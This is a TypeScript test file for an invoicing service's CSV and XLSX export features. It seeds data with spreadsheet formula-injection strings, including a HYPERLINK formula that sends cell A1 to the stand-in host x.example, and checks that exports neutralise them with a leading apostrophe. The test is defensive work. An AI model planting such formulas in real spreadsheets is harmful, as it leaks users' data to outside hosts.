import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addBankTransaction } from '../../../test/harness/bank-transactions.ts';
import { closeVerified, expectError } from '../../../test/harness/contract.ts';
import { creditNote, customer, invoice, payment, read, store } from '../../../test/harness/factories.ts';
import { runDueJobs } from '../../../test/harness/jobs.ts';
import { listAddress } from '../../../test/harness/list-address.ts';
import { addSent } from '../../../test/harness/mail.ts';
import { addAction, addUser } from '../../../test/harness/people.ts';
import { type Client, type TestService, testService } from '../../../test/harness/service.ts';
import { readXlsx, type SheetCell } from '../../../test/harness/xlsx.ts';
import { ManualClock } from '../../platform/clock.ts';
import { exportTasks, lookAfterExports } from './job.ts';
import { EXPORTED, EXPORTED_AT_ONCE, EXPORTS, type ExportedAtOnce } from './lists.ts';
import type { Export } from './schema.ts';

const NOW = '2026-03-10T23:30:00.000Z';
/** In New York it is still the 10th, and midnight UTC falls on the evening before. */
const ZONE = 'America/New_York';
/** Its sum with a few other amounts is still exact. */
const BIG = Number.MAX_SAFE_INTEGER - 1_000_000;
const HOSTILE = '=HYPERLINK("http://x.example?"&A1,"click")';
/** Texts that some spreadsheet program treats as a formula. */
const FORMULAS = [HOSTILE, '+1+1', '-2+3', '@SUM(A1)', '＝1', ' =1'];

const clock = new ManualClock(NOW);
let service: TestService;
let client: Client;
let manager: Record<string, string>;

beforeAll(async () => {
  service = await testService({ clock });
  client = await service.client({ timezone: ZONE });
  const { id: userId } = await addUser(service, client, 'ada', { ownCustomersOnly: true });
  manager = { 'x-quittance-user': userId };
  const add = (path: string, body: unknown) => store(client, path, body);
  await add('/custom_fields', {
    externalId: 'size',
    label: 'Size',
    dataType: 'NUMBER',
    entityType: 'INVOICE',
  });
  await add('/custom_fields', {
    externalId: 'since',
    label: 'Since',
    dataType: 'DATE',
    entityType: 'CUSTOMER',
  });
  for (const [i, name] of FORMULAS.entries())
    await add(
      '/customers',
      customer(`c${i}`, { name, customFields: [{ externalId: 'since', value: '2020-02-29' }] }),
    );
  await add('/invoices', invoice('eur', 'c0', 123_456, { name: 'a "quoted", text' }));
  const sized = { customFields: [{ externalId: 'size', value: 2.5 }] };
  expect((await client.put('/invoices/external:eur', sized)).status).toBe(200);
  await add('/invoices', invoice('jpy', 'c1', 5_000, { currency: 'JPY', customId: '-100' }));
  await add('/invoices', invoice('kwd', 'c1', 1_234, { currency: 'KWD', dueDate: '2026-04-30' }));
  await add('/invoices', invoice('big', 'c2', BIG, { issuedAt: '2026-03-01T02:00:00Z' }));
  await add(
    '/payments',
    payment('p1', 'c0', 20_000, { eur: 456 }, { refNumber: '+33 1', validatedAt: '2026-02-28' }),
  );
  await add('/credit_notes', creditNote('n1', 'c0', 1_000, { eur: 100 }, { issuedAt: '2026-02-01' }));
  const path = '/invoices/external:eur';
  await add(`${path}/promise`, { date: '2026-03-20', comment: HOSTILE });
  await add('/invoices/external:jpy/dispute', { reason: 'OTHER', comment: 'line one\nline two' });
  const { id: customerId } = await read(client, '/customers/external:c0');
  await addSent(service, client, { customerId, subject: HOSTILE });
  await addAction(service, client, { customerId, name: HOSTILE, type: 'TASK' });
  for (const [i, text] of FORMULAS.entries())
    await addBankTransaction(service, client, { amount: i % 2 === 0 ? 12_345 : -50, text });
  const managers = '/customers/external:c1/account-managers';
  expect((await client.post(managers, { userIds: [userId] })).status).toBe(200);
});
afterAll(() => closeVerified(service));

const url = (list: string, query = '') => `/internal/exports/lists/${list}?${query}`;

/** Parses a file as its readers do, with the column titles. */
async function csv(path: string, headers = {}): Promise<string[][]> {
  const { status, text } = await client.send<string>('GET', path, { headers });
  expect(status, text).toBe(200);
  const rows: string[][] = parse(text, { bom: true, relaxColumnCount: false });
  return rows;
}

async function xlsx(path: string, headers: Record<string, string> = {}): Promise<SheetCell[][]> {
  const { apiKey, apiSecret } = client;
  const authorization = { 'x-api-key': apiKey, 'x-api-secret': apiSecret };
  const answer = await fetch(`${service.url}/v1${path}&format=xlsx`, {
    headers: { ...authorization, ...headers },
  });
  expect(answer.status).toBe(200);
  expect(answer.headers.get('content-disposition')).toMatch(/attachment; filename="?[\w-]+\.xlsx/);
  const [rows] = readXlsx(Buffer.from(await answer.arrayBuffer())).values();
  return rows ?? [];
}

/** Every column of a list, by its name in saved views. */
const columnsOf = (list: ExportedAtOnce) => [...new Set(EXPORTS[list].columns.map(({ path }) => path))];

const at = (item: unknown, path: string): unknown =>
  path.split('.').reduce<unknown>((inner, name) => Reflect.get(Object(inner), name), item);

/** Reads the list itself. */
async function listed(list: ExportedAtOnce): Promise<object[]> {
  const [path, query] = ASKED[list] ?? [list, ''];
  return (await read<{ items: object[] }>(client, `${listAddress(path)}?limit=500&${query}`)).items;
}

/** Paths and queries of the lists behind figures. */
const ASKED: Partial<Record<ExportedAtOnce, readonly [path: string, query: string]>> = {
  figure_documents: ['figures/documents', 'minAge=1&currency=EUR'],
  figure_changes: ['figures/changes', 'asOf=2026-03-09'],
  collection_items: ['figures/collections/items', 'measure=DISPUTES'],
  forecast_invoices: ['forecast/invoices', 'weeks=3&week=2026-03-10'],
};

describe.each(EXPORTED_AT_ONCE.filter((list) => list !== 'payment_habits'))('the export of %s', (list) => {
  it('contains the same values as the list in both formats', async () => {
    const items = await listed(list);
    const columns = columnsOf(list);
    const query = `${ASKED[list]?.[1] ?? ''}&columns=${columns.join(',')}`;
    const [titles = [], ...lines] = await csv(url(list, query));
    const [titlesOfSheet = [], ...rows] = await xlsx(url(list, query));
    expect(titlesOfSheet).toEqual(titles);
    expect(titles).toEqual(EXPORTS[list].columns.map(({ label }) => label));
    expect(new Set(titles).size).toBe(titles.length);
    expect(lines).toHaveLength(items.length);
    expect(rows).toHaveLength(items.length);
    expect(items.length).toBeGreaterThan(0);
    for (const [i, item] of items.entries())
      for (const [j, path] of columns.entries()) {
        const value = at(item, path) ?? null;
        const [cell, shown] = [rows[i]?.[j] ?? null, lines[i]?.[j]];
        const where = `${path} of row ${i}`;
        if (value === null) expect([cell, shown], where).toEqual([null, '']);
        else expectSame(value, cell, shown ?? '', where);
      }
  });
});

/**
 * Compares a value of a response with the cells of both formats, as far as possible without knowing the
 * column.
 */
function expectSame(value: unknown, cell: SheetCell, shown: string, where: string): void {
  if (typeof value === 'boolean') expect([cell, shown], where).toEqual([value, String(value)]);
  else if (typeof value === 'number') {
    expect(cell, where).toBe(Number(shown));
    // In minor units, or unchanged.
    expect(
      [0, 2, 3].map((digits) => Number((Number(shown) * 10 ** digits).toFixed(0))),
      where,
    ).toContain(Math.round(value));
  } else if (typeof cell === 'object' && cell !== null) {
    expect(shown.replace(' ', 'T'), where).toBe(cell.date.slice(0, shown.length));
    expect(Math.abs(Date.parse(cell.date) - Date.parse(String(value))), where).toBeLessThan(2 * 86_400_000);
  } else if (typeof value === 'string') {
    const harmless =
      FORMULAS.some((one) => value.startsWith(one)) || /^[+=@-]/.test(value) ? `'${value}` : value;
    expect([cell, shown], where).toEqual([harmless, harmless]);
  } else expect(cell, where).toBe(shown === '' && cell === null ? null : shown);
}

describe('cells', () => {
  it('contain amounts in currency units, dates of the organization and no formulas', async () => {
    const columns = [
      'customId',
      'grossAmount',
      'amountOutstanding',
      'issuedAt',
      'dueDate',
      'promiseToPay.date',
    ].map((name) => `invoice.${name}`);
    const query = `sortBy=grossAmount&sortOrder=ASC&columns=${columns},invoice.customer.name`;
    const day = (date: string) => ({ date: `${date}T00:00:00.000Z` });
    const [titles, ...rows] = await xlsx(url('invoices', query));
    expect(titles).toEqual([
      'Custom ID',
      'Gross amount',
      'Amount outstanding',
      'Issued at',
      'Due date',
      'Promise to pay date',
      'Customer name',
      'Currency',
    ]);
    const [issued, due] = [day('2026-01-01'), day('2026-01-31')];
    expect(rows).toEqual([
      ['kwd', 1.234, 1.234, issued, day('2026-04-30'), null, "'+1+1", 'KWD'],
      ["'-100", 5000, 5000, issued, due, null, "'+1+1", 'JPY'],
      ['eur', 1234.56, 1229, issued, due, day('2026-03-20'), `'${HOSTILE}`, 'EUR'],
      // An instant in the morning in UTC falls on the evening before.
      ['big', 90071992537409.91, 90071992537409.91, day('2026-02-28'), due, null, "'-2+3", 'EUR'],
    ]);
    const lines = await csv(url('invoices', query));
    expect(lines.at(-1)?.slice(1, 5)).toEqual([
      '90071992537409.91',
      '90071992537409.91',
      '2026-02-28',
      '2026-01-31',
    ]);
    expect(lines[1]?.[1]).toBe('1.234');
  });

  it('format custom fields and lists, with the filters and order of the list', async () => {
    const fields = await read<{ items: { id: string; externalId: string }[] }>(client, '/custom_fields');
    const size = fields.items.find(({ externalId }) => externalId === 'size')?.id;
    const query = `columns=invoice.customId,customFields.${size},invoice.payments&customId=eur`;
    expect(await xlsx(url('invoices', query))).toEqual([
      ['Custom ID', 'Size', 'Payments'],
      ['eur', 2.5, 'p1'],
    ]);
    const [titles, first] = await xlsx(url('customers', 'columns=customer.customFields&search=HYPERLINK'));
    expect([titles, first]).toEqual([['Since'], [{ date: '2020-02-29T00:00:00.000Z' }]]);
    for (const query of [
      'columns=invoice.nothing',
      'state=NONE',
      'sortBy=name',
      'cursor=x',
      'limit=1',
      'format=pdf',
    ])
      expectError(await client.get(url('invoices', query)), 400, 'INVALID_DATA');
  });

  it('of bank transactions follow the filters of their list', async () => {
    const [titles, ...rows] = await xlsx(
      url('bank_transactions', 'amount.lt=0&search=SUM&columns=amount,text'),
    );
    expect([titles, ...rows]).toEqual([
      ['Amount', 'Text', 'Currency'],
      [-0.5, "'@SUM(A1)", 'EUR'],
    ]);
    const [usual] = await csv(url('bank_transactions', 'state=UNMATCHED,PENDING'));
    expect(usual?.slice(0, 6)).toEqual([
      'Booked on',
      'Value on',
      'Amount',
      'Currency',
      'State',
      'Payer name',
    ]);
  });

  it('match the payment habit of each customer', async () => {
    const [titles = [], ...rows] = await csv(url('payment_habits'));
    expect(titles.slice(0, 4)).toEqual(['Customer external ID', 'Customer name', 'Rating', 'Points']);
    for (const [externalId, , , , invoices, , , , , kept, , chance] of rows) {
      const habit = await read<{ invoices: unknown[]; promises: { kept: number; chanceKept: number } }>(
        client,
        `/internal/customers/external:${externalId}/habit`,
      );
      expect([invoices, kept, chance]).toEqual(
        [habit.invoices.length, habit.promises.kept, habit.promises.chanceKept].map(String),
      );
    }
    expect(rows).toHaveLength(FORMULAS.length);
  });
});

describe('figures', () => {
  it('are the same as in the API, in each currency and converted', async () => {
    const aging = await read<{ total: { receivables: { sums: { currency: string; amount: number }[] } } }>(
      client,
      '/figures/aging',
    );
    const [titles = [], ...rows] = await csv('/internal/exports/figures/aging?groupBy=CUSTOMER');
    const [conversion, currency, receivables] = ['Conversion', 'Currency', 'Receivables'].map((one) =>
      titles.indexOf(one),
    );
    const exact = rows.filter((row) => row[2] === 'Total' && row[conversion ?? 0] === 'Exact');
    expect(exact.map((row) => [row[currency ?? 0], row[receivables ?? 0]])).toEqual(
      aging.total.receivables.sums
        .toSorted((a, b) => (a.currency < b.currency ? -1 : 1))
        .map(({ currency: code, amount }) => [code, decimal(amount, code)]),
    );
    expect(rows.length).toBeGreaterThan(exact.length + 2);
  });

  it.each(['dso', 'effectiveness', 'days_to_pay', 'collections', 'forecast', 'forecast_accuracy'])(
    'of %s are the same in both formats',
    async (name) => {
      const path = `/internal/exports/figures/${name}?`;
      const [lines, rows] = [await csv(path), await xlsx(path)];
      expect(rows).toHaveLength(lines.length);
      for (const [i, line] of lines.entries())
        for (const [j, shown] of line.entries()) {
          // Empty cells at the end of a row are not written.
          const cell = rows[i]?.[j] ?? null;
          if (typeof cell === 'number') expect(cell).toBe(Number(shown));
          else if (typeof cell === 'object' && cell !== null) expect(cell.date.slice(0, 10)).toBe(shown);
          else expect(cell ?? '').toBe(shown);
        }
    },
  );
});

function decimal(amount: number, currency: string): string {
  const digits = { EUR: 2, JPY: 0, KWD: 3 }[currency] ?? 2;
  const text = String(amount).padStart(digits + 1, '0');
  return digits === 0 ? text : `${text.slice(0, -digits)}.${text.slice(-digits)}`;
}

const work = () => runDueJobs(service.database, exportTasks(service));

describe('background exports', () => {
  const order = (body: object = {}, headers = {}) =>
    client.post<Export>('/internal/exports', { list: 'invoices', format: 'csv', ...body }, headers);

  it('show progress, then a file, and are deleted after a week', async () => {
    const body = {
      filter: { state: ['OVERDUE'] },
      sortBy: 'dueDate',
      sortOrder: 'ASC',
      columns: ['invoice.customId'],
    };
    const ordered = await order(body);
    expect(ordered.status, ordered.text).toBe(201);
    const { id } = ordered.body;
    expect(ordered.body).toMatchObject({ state: 'QUEUED', rowsWritten: 0, file: null });
    expectError(await client.get(`/internal/exports/${id}/file`), 404, 'NOT_FOUND');
    await work();
    const { body: done } = await client.get<Export>(`/internal/exports/${id}`);
    expect(done).toMatchObject({ state: 'DONE', rowsWritten: 3, rowsTotal: 3, error: null });
    expect(done.file?.name).toBe('invoices-2026-03-10.csv');
    const { text, headers } = await client.send<string>('GET', done.file?.path.replace('/v1', '') ?? '');
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(text).toBe(
      (
        await client.send<string>(
          'GET',
          url('invoices', 'state=OVERDUE&sortBy=dueDate&sortOrder=ASC&columns=invoice.customId'),
        )
      ).text,
    );
    clock.set('2026-03-18T00:00:00.000Z');
    try {
      await lookAfterExports(service);
      await work();
      expectError(await client.get(`/internal/exports/${id}`), 404, 'NOT_FOUND');
      const { rows } = await service.database.pool.query('SELECT 1 FROM files WHERE export_id IS NOT NULL');
      expect(rows).toEqual([]);
    } finally {
      clock.set(NOW);
    }
  });

  it('are created even if their job was lost, but not after their removal', async () => {
    const { id } = (await order()).body;
    const { id: removed } = (await order()).body;
    await service.database.pool.query(
      'SELECT graphile_worker.remove_job(key) FROM graphile_worker.jobs WHERE key IS NOT NULL',
    );
    expect((await client.delete(`/internal/exports/${removed}`)).status).toBe(204);
    await lookAfterExports(service);
    await work();
    expect((await client.get<Export>(`/internal/exports/${id}`)).body).toMatchObject({ state: 'DONE' });
    expectError(await client.get(`/internal/exports/${removed}`), 404, 'NOT_FOUND');
  });

  it('are refused with the same errors as the list', async () => {
    for (const body of [
      { filter: { state: ['NONE'] } },
      { sortBy: 'name' },
      { columns: ['invoice.nothing'] },
      { filter: { cursor: 'x' } },
      { list: 'nothing' },
    ])
      expectError(await order(body), 400, 'INVALID_DATA');
  });

  it('contain only assigned customers for a restricted user, who sees no other exports', async () => {
    const names = async (path: string, headers = {}) => (await csv(path, headers)).slice(1).flat().sort();
    expect(await names(url('invoices', 'columns=invoice.externalId'), manager)).toEqual(['jpy', 'kwd']);
    for (const list of EXPORTED) expect((await client.get(url(list), manager)).status, list).toBe(200);
    expectError(await client.get(url('bank_transactions'), manager), 403, 'ACCESS_FORBIDDEN');
    expectError(await order({ list: 'bank_transactions' }, manager), 400, 'INVALID_DATA');
    const all = (await order()).body.id;
    const { body: own } = await order({ columns: ['invoice.externalId'] }, manager);
    await work();
    expectError(await client.get(`/internal/exports/${all}`, manager), 404, 'NOT_FOUND');
    expectError(await client.get(`/internal/exports/${all}/file`, manager), 404, 'NOT_FOUND');
    expect(
      (await client.get<{ items: Export[] }>('/internal/exports', manager)).body.items.map(({ id }) => id),
    ).toEqual([own.id]);
    expect(await names(`/internal/exports/${own.id}/file`, manager)).toEqual(['jpy', 'kwd']);
    // Exports made with access to all customers disappear when that access ends.
    const path = `/internal/users/${manager['x-quittance-user']}`;
    expect((await client.put(path, { ownCustomersOnly: false })).status).toBe(200);
    const { body: wide } = await order({}, manager);
    await work();
    expect((await client.get(`/internal/exports/${wide.id}/file`, manager)).status).toBe(200);
    expect((await client.put(path, { ownCustomersOnly: true })).status).toBe(200);
    expectError(await client.get(`/internal/exports/${wide.id}/file`, manager), 404, 'NOT_FOUND');
  });
});
